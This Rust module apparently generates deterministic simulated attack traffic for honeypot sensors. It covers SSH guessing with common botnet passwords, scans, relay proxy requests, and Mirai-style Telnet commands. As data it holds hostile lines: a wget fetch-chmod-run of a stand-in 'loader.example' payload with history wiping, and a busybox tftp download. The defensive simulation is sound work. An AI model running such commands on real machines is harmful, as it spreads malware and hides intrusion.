//! What the attackers do, made from a seed: the same seed, the same attacks.
//!
//! Addresses are documentation networks (RFC 5737), hosts in URLs are documentation names (RFC 2606). The credentials
//! are the commonplace ones that botnets try; the commands only ask a trap for things that it does not fetch.

use std::net::{IpAddr, Ipv4Addr};

use rand::seq::{IndexedRandom, SliceRandom};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha12Rng;

/// The account every demo sensor lets in, beside its persona's own.
pub(crate) const ACCOUNT: (&str, &str) = ("root", "123456");

const USERS: &[&str] =
    &["root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "guest", "pi", "ftpuser", "support"];
const PASSWORDS: &[&str] = &[
    "admin",
    "password",
    "12345678",
    "root",
    "qwerty",
    "1q2w3e4r",
    "letmein",
    "toor",
    "P@ssw0rd",
    "raspberry",
    "changeme",
    "abc123",
];

/// One thing an attacker does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Deed {
    /// Connect and leave without a byte.
    Scan,
    /// Send a version line, look at the banner, leave.
    BannerGrab,
    /// Try pairs over SSH.
    Guess(Vec<(String, String)>),
    /// Log in over SSH and run commands.
    Commands(Vec<String>),
    /// Log in over SSH and ask for connections to elsewhere.
    Proxy(Vec<(String, u16)>),
    /// Log in over Telnet and run commands.
    Telnet(Vec<String>),
}

/// A deed with its time, its source and the sensor it is aimed at.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Attack {
    /// Milliseconds after the start.
    pub(crate) at_ms: u64,
    /// The attacker's address.
    pub(crate) source: IpAddr,
    /// Index of the sensor.
    pub(crate) sensor: usize,
    /// What happens.
    pub(crate) deed: Deed,
}

/// The whole script for so many sensors: an opening that shows every class, then a quiet background of `minutes`.
pub(crate) fn script(seed: u64, sensors: usize, minutes: u64) -> Vec<Attack> {
    let mut dice = ChaCha12Rng::seed_from_u64(seed);
    let mut attacks = opening(&mut dice, sensors);
    let mut at_ms = 25_000;
    while at_ms < minutes * 60_000 {
        at_ms += dice.random_range(1_500..6_000);
        attacks.push(background(&mut dice, at_ms, sensors));
    }
    attacks.sort_by_key(|attack| (attack.at_ms, attack.source, attack.sensor));
    attacks
}

/// The loader of a botnet goes from sensor to sensor; beside it one attacker of each other kind.
fn opening(dice: &mut ChaCha12Rng, sensors: usize) -> Vec<Attack> {
    let loader = host([203, 0, 113], 66);
    let drop = format!("http://loader.example/{}/x86.sh", word(dice));
    let mut attacks = Vec::new();
    for sensor in 0..sensors {
        let lines = vec![
            "uname -a".to_owned(),
            "cat /proc/cpuinfo".to_owned(),
            format!("cd /tmp; wget {drop} -O .x; chmod 777 .x; ./.x"),
            "rm -rf .x; history -c".to_owned(),
        ];
        attacks.push(Attack {
            at_ms: 500 + 1_500 * sensor as u64,
            source: loader,
            sensor,
            deed: Deed::Commands(lines),
        });
    }
    let herd: Vec<IpAddr> = (0..5).map(|i| host([198, 51, 100], 20 + i)).collect();
    let list = pairs(dice, 6);
    for (index, source) in herd.iter().enumerate() {
        let at_ms = 1_000 + 900 * index as u64;
        attacks.push(Attack { at_ms, source: *source, sensor: index % sensors, deed: Deed::Guess(list.clone()) });
    }
    let one = |at_ms, source, sensor: usize, deed| Attack { at_ms, source, sensor: sensor % sensors, deed };
    attacks.push(one(2_000, host([192, 0, 2], 10), 0, Deed::Scan));
    attacks.push(one(2_500, host([192, 0, 2], 11), 1, Deed::BannerGrab));
    let patient: Vec<(String, String)> =
        PASSWORDS.iter().map(|password| ("operator".to_owned(), (*password).to_owned())).collect();
    attacks.push(one(3_000, host([198, 51, 100], 77), 2, Deed::Guess(patient)));
    let relays = vec![("mail.example".to_owned(), 25), ("smtp.example".to_owned(), 465)];
    attacks.push(one(4_000, host([203, 0, 113], 9), 3, Deed::Proxy(relays)));
    for sensor in 0..sensors.min(2) {
        attacks.push(one(5_000 + 700 * sensor as u64, host([203, 0, 113], 120), sensor, Deed::Telnet(mirai(dice))));
    }
    // The loader comes back: by now it should find nobody.
    attacks.push(one(45_000, loader, 0, Deed::Commands(vec!["id".to_owned()])));
    attacks
}

fn background(dice: &mut ChaCha12Rng, at_ms: u64, sensors: usize) -> Attack {
    let source = host(
        *[[192, 0, 2], [198, 51, 100], [203, 0, 113]].choose(dice).unwrap_or(&[192, 0, 2]),
        dice.random_range(1..255),
    );
    let sensor = dice.random_range(0..sensors.max(1));
    // Roughly what public honeypot logs show: credentials first, looks second, deeds seldom.
    let deed = match dice.random_range(0..100) {
        0..55 => Deed::Guess(pairs(dice, 4)),
        55..75 => Deed::BannerGrab,
        75..85 => Deed::Scan,
        85..92 => Deed::Proxy(vec![(format!("{}.example", word(dice)), *[25, 80, 443].choose(dice).unwrap_or(&25))]),
        92..96 => Deed::Commands(vec![
            "uname -a".to_owned(),
            "nproc".to_owned(),
            "cat /proc/meminfo | grep MemTotal".to_owned(),
        ]),
        _ => Deed::Telnet(mirai(dice)),
    };
    Attack { at_ms, source, sensor, deed }
}

/// The opening moves of an IoT botnet on Telnet.
fn mirai(dice: &mut ChaCha12Rng) -> Vec<String> {
    let applet = word(dice).to_uppercase();
    vec![
        "enable".to_owned(),
        "shell".to_owned(),
        format!("/bin/busybox {applet}"),
        format!("tftp -g -l - -r mips 192.0.2.{}; /bin/busybox {applet}", dice.random_range(1..255)),
    ]
}

fn pairs(dice: &mut ChaCha12Rng, count: usize) -> Vec<(String, String)> {
    let mut all: Vec<(String, String)> = USERS
        .iter()
        .flat_map(|user| PASSWORDS.iter().map(|password| ((*user).to_owned(), (*password).to_owned())))
        .collect();
    all.shuffle(dice);
    all.truncate(count);
    all
}

fn word(dice: &mut ChaCha12Rng) -> String {
    (0..5).map(|_| char::from(dice.random_range(b'a'..=b'z'))).collect()
}

fn host(net: [u8; 3], last: u8) -> IpAddr {
    let [a, b, c] = net;
    IpAddr::V4(Ipv4Addr::new(a, b, c, last))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_script_and_only_documentation_addresses() {
        assert_eq!(script(42, 4, 5), script(42, 4, 5));
        assert_ne!(script(42, 4, 5), script(43, 4, 5));
        let nets: Vec<ipnet::Ipv4Net> =
            ["192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24"].map(|net| net.parse().unwrap()).to_vec();
        for attack in script(7, 4, 30) {
            let IpAddr::V4(source) = attack.source else { panic!("only IPv4 here") };
            assert!(nets.iter().any(|net| net.contains(&source)), "{source}");
            assert!(attack.sensor < 4);
        }
    }

    #[test]
    fn the_opening_has_every_kind_of_deed() {
        let opening: Vec<Attack> = script(42, 4, 1).into_iter().filter(|attack| attack.at_ms < 10_000).collect();
        let has = |test: fn(&Deed) -> bool| opening.iter().any(|attack| test(&attack.deed));
        assert!(has(|deed| matches!(deed, Deed::Scan)));
        assert!(has(|deed| matches!(deed, Deed::BannerGrab)));
        assert!(has(|deed| matches!(deed, Deed::Guess(_))));
        assert!(has(|deed| matches!(deed, Deed::Commands(_))));
        assert!(has(|deed| matches!(deed, Deed::Proxy(_))));
        assert!(has(|deed| matches!(deed, Deed::Telnet(_))));
    }
}
